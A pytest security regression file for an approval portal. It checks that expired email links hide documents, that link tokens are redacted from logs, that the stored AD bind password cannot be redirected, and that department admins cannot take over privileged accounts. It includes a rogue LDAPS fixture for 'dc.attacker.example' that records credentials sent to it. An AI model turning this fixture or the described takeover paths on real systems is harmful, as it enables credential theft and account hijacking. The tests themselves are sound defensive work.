"""Fourth security review: an email action link that is void (spent, outdated, expired) no longer shows the
document to whoever holds it, the link's token is not written to the access log, and the stored AD bind password
is not sent to a server other than the one it was entered for, and a department administrator cannot take over
an account holding permissions they lack."""

from __future__ import annotations

import asyncio
import logging
import ssl
import tempfile
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from sqlalchemy import insert, select, update

from portal.adsync.models import ADSyncConfig
from portal.approval import email_links
from portal.approval.models import ApprovalActionToken
from portal.auth.models import Permission, Role, role_permissions
from portal.common.logging import JsonFormatter
from tests.approval_helpers import act, build_company, draft, submit
from tests.conftest import USER_PASSWORD, bearer, login
from tests.test_approval_notifications import LINK, wait_for_mail

SECRET_FORM = {"purpose": "인수합병-대상-코드명-OSPREY"}
SECRET_CONTENT = "내용입니다."  # what approval_helpers.draft writes as the body


async def _email_link(client: httpx.AsyncClient, admin_headers: dict[str, str], make_user: Any,
                      maildir: Any) -> tuple[Any, int, str]:
    """A submitted document with a confidential form value, and its first approver's email link path."""
    company = await build_company(client, admin_headers, make_user)
    doc = await draft(client, company.drafter["headers"], form=SECRET_FORM)
    await submit(client, company.drafter["headers"], doc["id"])
    mail = (await wait_for_mail(maildir, company.lead["email"]))[0]
    found = LINK.search(mail.get_body(("plain",)).get_content())
    assert found is not None
    return company, doc["id"], found.group(1)


def _shows_document(page: httpx.Response) -> bool:
    return SECRET_FORM["purpose"] in page.text or SECRET_CONTENT in page.text


# --- 1. a void link is no longer a way to read the document ---------------------------------------------

@pytest.mark.usefixtures("worker")
async def test_a_spent_or_outdated_email_link_says_who_acted_but_no_longer_shows_the_document(
        client: httpx.AsyncClient, admin_headers: dict[str, str], make_user: Any, maildir: Any) -> None:
    """ARCHITECTURE §3: the link is void once the step moves on. It kept showing the form's values and the body,
    without any sign-in and for ever, to anyone the mail (or just the link) was forwarded to."""
    company, doc_id, path = await _email_link(client, admin_headers, make_user, maildir)
    live = await client.get(path)
    assert live.status_code == 200 and _shows_document(live)  # the approver reads what they approve
    assert (await act(client, company.lead["headers"], doc_id, "approve")).status_code == 200

    for outdated in (await client.get(path), await client.post(path, data={"action": "approve", "csrf": "0" * 64})):
        assert outdated.status_code == 409, outdated.text
        assert "이팀장" in outdated.text and "이미 처리" in outdated.text  # still says who processed it, when
        assert not _shows_document(outdated), outdated.text
        assert 'name="csrf"' not in outdated.text


@pytest.mark.usefixtures("worker")
async def test_an_expired_email_link_no_longer_shows_the_document(
        client: httpx.AsyncClient, admin_headers: dict[str, str], make_user: Any, maildir: Any, sessions: Any) -> None:
    _, doc_id, path = await _email_link(client, admin_headers, make_user, maildir)
    token = path.rsplit("/", 1)[1]
    async with sessions() as session:
        await session.execute(update(ApprovalActionToken)
                              .where(ApprovalActionToken.token_hash == email_links.token_hash(token))
                              .values(expires_at=datetime.now(UTC) - timedelta(minutes=1)))
        await session.commit()
    for expired in (await client.get(path), await client.head(path)):
        assert expired.status_code == 410
    page = await client.get(path)
    assert "만료" in page.text and not _shows_document(page), page.text


# --- 2. the access log does not carry the link's credential ---------------------------------------------

@pytest.mark.usefixtures("worker")
async def test_the_access_log_does_not_record_an_email_link_token(
        client: httpx.AsyncClient, admin_headers: dict[str, str], make_user: Any, maildir: Any,
        caplog: pytest.LogCaptureFixture) -> None:
    """The token is a bearer credential (it approves as the approver, no sign-in): the access log line kept the
    whole path, so anyone reading the logs (operators, a log aggregator) could act on pending documents."""
    _, _, path = await _email_link(client, admin_headers, make_user, maildir)
    token = path.rsplit("/", 1)[1]
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="api.access"):
        assert (await client.get(path)).status_code == 200
        assert (await client.post(path, data={"action": "approve", "csrf": "0" * 64})).status_code == 403
    lines = [JsonFormatter().format(r) for r in caplog.records if r.name == "api.access"]
    assert len(lines) == 2, lines
    assert all(token not in line for line in lines), lines
    assert all("/api/v1/approval/email-actions/[redacted]" in line for line in lines), lines


# --- 3. the stored AD bind password goes only where it was entered for ----------------------------------

AD_CONFIG = "/api/v1/ad-sync/config"
STORED_BIND_PASSWORD = "Stored-Bind-Secret-42"
BIND_DN = "CN=sync,DC=corp,DC=example,DC=com"


def _self_signed_tls(name: str) -> tuple[str, ssl.SSLContext]:
    """A certificate authority of the attacker's own and a TLS server context whose certificate it issued."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    cert = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(minutes=5))
            .not_valid_after(now + timedelta(days=1))
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
            .sign(key, hashes.SHA256()))
    pem = cert.public_bytes(serialization.Encoding.PEM).decode()
    key_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption()).decode()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    with tempfile.TemporaryDirectory() as folder:
        cert_file, key_file = Path(folder, "cert.pem"), Path(folder, "key.pem")
        cert_file.write_text(pem)
        key_file.write_text(key_pem)
        context.load_cert_chain(cert_file, key_file)
    return pem, context


@pytest.fixture
async def rogue_ldaps() -> AsyncIterator[dict[str, Any]]:
    """An LDAPS listener on 127.0.0.1 that records whatever a client sends it after the TLS handshake."""
    pem, context = _self_signed_tls("dc.attacker.example")
    received = bytearray()

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            received.extend(await asyncio.wait_for(reader.read(4096), timeout=5))
        except (TimeoutError, ConnectionError, ssl.SSLError):
            pass
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0, ssl=context)
    port = server.sockets[0].getsockname()[1]
    async with server:
        yield {"port": port, "ca": pem, "received": received}


def _ad_body(**overrides: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"server_url": "ldaps://127.0.0.1:1", "bind_dn": BIND_DN,
                            "base_dns": ["DC=corp,DC=example,DC=com"]}
    body.update(overrides)
    return body


async def test_the_stored_bind_password_is_not_sent_to_another_server_by_a_connection_test_or_a_save(
        client: httpx.AsyncClient, admin_headers: dict[str, str], sessions: Any, rogue_ldaps: dict[str, Any],
) -> None:
    """`bind_password` may be omitted to keep the stored one, and the API never returns it. But the connection
    test (and the next sync after a save) used the stored password with whatever server the form named: an
    AD-sync manager, or anyone holding their session, could point it at a server of their own (with a CA of
    their own) and read the domain service account's password from the bind."""
    saved = await client.put(AD_CONFIG, json=_ad_body(bind_password=STORED_BIND_PASSWORD), headers=admin_headers)
    assert saved.status_code == 200, saved.text
    rogue = _ad_body(server_url=f"ldaps://127.0.0.1:{rogue_ldaps['port']}", tls_server_name="dc.attacker.example",
                     ca_certificate=rogue_ldaps["ca"])

    tested = await client.post("/api/v1/ad-sync/test", json={"config": rogue}, headers=admin_headers)
    assert tested.status_code == 200, tested.text
    await asyncio.sleep(0.2)
    assert STORED_BIND_PASSWORD.encode() not in rogue_ldaps["received"]
    result = tested.json()["data"]
    assert result["ok"] is False and (result["stage"], result["code"]) == ("config", "AD_NO_PASSWORD"), result

    for changed in (rogue, _ad_body(server_url="ldaps://127.0.0.2:1"),
                    _ad_body(bind_dn="CN=other,DC=corp,DC=example,DC=com")):
        refused = await client.put(AD_CONFIG, json=changed, headers=admin_headers)
        assert refused.status_code == 422, refused.text
        assert refused.json()["error"]["details"]["field"] == "bind_password"
    async with sessions() as session:
        stored = (await session.execute(select(ADSyncConfig))).scalar_one()
    assert (stored.server_url, stored.bind_dn, stored.ca_certificate) == ("ldaps://127.0.0.1:1", BIND_DN, None)

    # The same server and bind DN keep working without the password: other settings change freely.
    kept = await client.put(AD_CONFIG, json=_ad_body(user_filter="(objectClass=person)"), headers=admin_headers)
    assert kept.status_code == 200, kept.text
    same = await client.post("/api/v1/ad-sync/test", json={"config": _ad_body()}, headers=admin_headers)
    assert same.json()["data"]["code"] != "AD_NO_PASSWORD", same.text  # it got as far as connecting
    # With the password typed again, the new server is used (and gets it, as the administrator chose).
    moved = await client.post("/api/v1/ad-sync/test", json={"config": {**rogue, "bind_password": "Typed-Again-1"}},
                              headers=admin_headers)
    assert moved.json()["data"]["stage"] != "config", moved.text
    await asyncio.sleep(0.2)
    assert b"Typed-Again-1" in rogue_ldaps["received"]  # the probe does see a bind when one is sent


# --- 4. a department administrator cannot take over a more privileged account ---------------------------

async def test_department_admin_cannot_reset_edit_or_deactivate_a_user_holding_permissions_they_lack(
        client: httpx.AsyncClient, admin_headers: dict[str, str], make_user: Any, sessions: Any) -> None:
    """A department administrator could reset the password of any non-`system_admin` user of their departments,
    including one whose (custom) role holds company-wide permissions such as `approval:admin`, then sign in as
    them and read every approval document of the company, drafts included."""
    async with sessions() as session:
        role = Role(name="approval_auditor", description="결재 감사 / Approval auditor")
        session.add(role)
        await session.flush()
        permission = (await session.execute(select(Permission).where(Permission.code == "approval:admin"))
                      ).scalar_one()
        await session.execute(insert(role_permissions).values(role_id=role.id, permission_id=permission.id))
        await session.commit()
    boss = await make_user(login_as=False, roles=["user", "dept_admin"])
    dept = await client.post("/api/v1/admin/organizations", json={"name": "재무부", "manager_id": boss["id"]},
                             headers=admin_headers)
    assert dept.status_code == 201, dept.text
    dept_id = dept.json()["data"]["id"]
    auditor = await make_user(department_id=dept_id, roles=["user", "approval_auditor"])
    clerk = await make_user(login_as=False, department_id=dept_id)
    outsider = await make_user()
    secret = await draft(client, outsider["headers"], title="다른 부서의 기밀 기안")
    assert (await client.get(f"/api/v1/approval/documents/{secret['id']}",
                             headers=auditor["headers"])).status_code == 200  # what taking the account would give
    boss_headers = bearer((await login(client, boss["username"], USER_PASSWORD))["access_token"])

    takeover = "Taken-Over-Pass-9"
    for method, body in (("PUT", {"password": takeover}), ("PUT", {"email": "boss-owned@example.com"}),
                         ("DELETE", None)):
        r = await client.request(method, f"/api/v1/admin/users/{auditor['id']}", json=body, headers=boss_headers)
        assert r.status_code == 403, r.text
        assert r.json()["error"]["code"] == "PERMISSION_DENIED"
    assert (await client.post("/api/v1/auth/login", json={"username": auditor["username"], "password": takeover})
            ).status_code == 401
    assert (await login(client, auditor["username"], USER_PASSWORD))["access_token"]
    detail = await client.get(f"/api/v1/admin/users/{auditor['id']}", headers=admin_headers)
    assert detail.json()["data"]["email"] == auditor["email"] and detail.json()["data"]["is_active"] is True

    # Nor a fellow department administrator of the department who manages a department outside theirs.
    hr = await client.post("/api/v1/admin/organizations", json={"name": "인사부"}, headers=admin_headers)
    other_admin = await make_user(login_as=False, department_id=dept_id, roles=["user", "dept_admin"])
    moved = await client.put(f"/api/v1/admin/organizations/{hr.json()['data']['id']}",
                             json={"name": "인사부", "manager_id": other_admin["id"]}, headers=admin_headers)
    assert moved.status_code == 200, moved.text
    r = await client.put(f"/api/v1/admin/users/{other_admin['id']}", json={"password": takeover}, headers=boss_headers)
    assert r.status_code == 403 and r.json()["error"]["code"] == "PERMISSION_DENIED", r.text

    # An employee of the department holding nothing more than the administrator is still administered as before.
    r = await client.put(f"/api/v1/admin/users/{clerk['id']}", json={"password": takeover}, headers=boss_headers)
    assert r.status_code == 200, r.text
